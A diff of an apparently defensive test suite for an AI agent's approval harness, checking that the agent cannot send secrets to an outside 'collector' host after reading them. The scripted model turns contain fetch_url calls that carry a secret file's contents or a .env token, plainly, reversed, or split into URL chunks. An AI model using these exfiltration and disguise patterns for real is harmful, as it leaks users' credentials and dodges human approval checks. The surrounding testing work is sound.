@@ -91,11 +91,45 @@ describe('the exfiltration chain', () => {
     await recorded.session.runTurn('summarise the README').done
 
     const asked = recorded.ofType('approval_needed')
-    expect(asked.map((e) => e.kind)).toEqual(['read', 'fetch'])
+    expect(asked.map((e) => e.kind)).toEqual(['read', 'fetch', 'fetch'])
     expect(asked[1]).toMatchObject({ host: collectorHost, carriedData: SECRET, scopes: ['once'] })
     expect(asked[1].summary).toContain('text read in this turn')
-    // The clean request to the allowed host went through without asking; the secret did not.
-    expect(received).toEqual(['/c?page=2'])
+    // After that read, even an address that seems to carry nothing asks, naming what was read.
+    expect(asked[2]).toMatchObject({ host: collectorHost, afterReading: secretFile, scopes: ['once'] })
+    expect(received).toEqual([])
+  })
+
+  it('after reading a secret, a disguised copy (reversed, split in chunks) cannot leave unasked; the next turn is clean', async () => {
+    await setUp({ agent: { allowedFetchHosts: [collectorHost] } })
+    const reversed = [...SECRET].reverse().join('')
+    const chunks = SECRET.match(/.{1,6}/g)!.join('/')
+    fx.server.enqueue(readSecret(), send(`r=${reversed}`), { toolCalls: [{ name: 'fetch_url', arguments: { url: `http://${collectorHost}/${chunks}` } }] }, { text: 'Done.' })
+    const recorded = fx.open()
+    answerApprovals(recorded, (event) => (event.kind === 'read' ? { allow: true } : { allow: false }))
+    await recorded.session.runTurn('summarise the README').done
+    expect(recorded.ofType('approval_needed').map((event) => [event.kind, event.afterReading ?? null])).toEqual([
+      ['read', null],
+      ['fetch', secretFile],
+      ['fetch', secretFile]
+    ])
+    expect(received).toEqual([])
+
+    fx.server.enqueue(send('page=3'), { text: 'Done.' })
+    await recorded.session.runTurn('next page please').done
+    expect(received).toEqual(['/c?page=3'])
+  })
+
+  it('a secret-looking file inside the workspace (.env) taints the turn too', async () => {
+    await setUp({ agent: { allowedFetchHosts: [collectorHost] } })
+    writeFileSync(join(fx.workspace, '.env'), `API_TOKEN=${SECRET}\n`)
+    fx.server.enqueue({ toolCalls: [{ name: 'read_file', arguments: { path: '.env' } }] }, send('x=1'), { text: 'Done.' })
+    const recorded = fx.open()
+    answerApprovals(recorded, () => ({ allow: false }))
+    await recorded.session.runTurn('check the config').done
+    const [fetchAsked] = recorded.ofType('approval_needed')
+    expect(fetchAsked).toMatchObject({ kind: 'fetch', afterReading: join(realpathSync(fx.workspace), '.env') })
+    expect(fetchAsked.summary).toContain('this turn read')
+    expect(received).toEqual([])
   })
 
   it('an "always" answer to an address carrying data is used once and saves nothing', async () => {
